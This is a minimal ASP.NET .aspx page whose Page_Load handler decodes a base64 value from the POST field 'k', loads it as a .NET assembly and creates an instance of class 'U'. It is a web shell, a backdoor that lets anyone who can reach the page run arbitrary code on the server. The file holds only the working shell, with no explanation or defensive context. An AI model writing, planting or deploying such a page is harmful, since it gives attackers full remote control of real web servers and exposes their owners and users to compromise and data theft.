<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["k"])).CreateInstance("U");
}
</script>
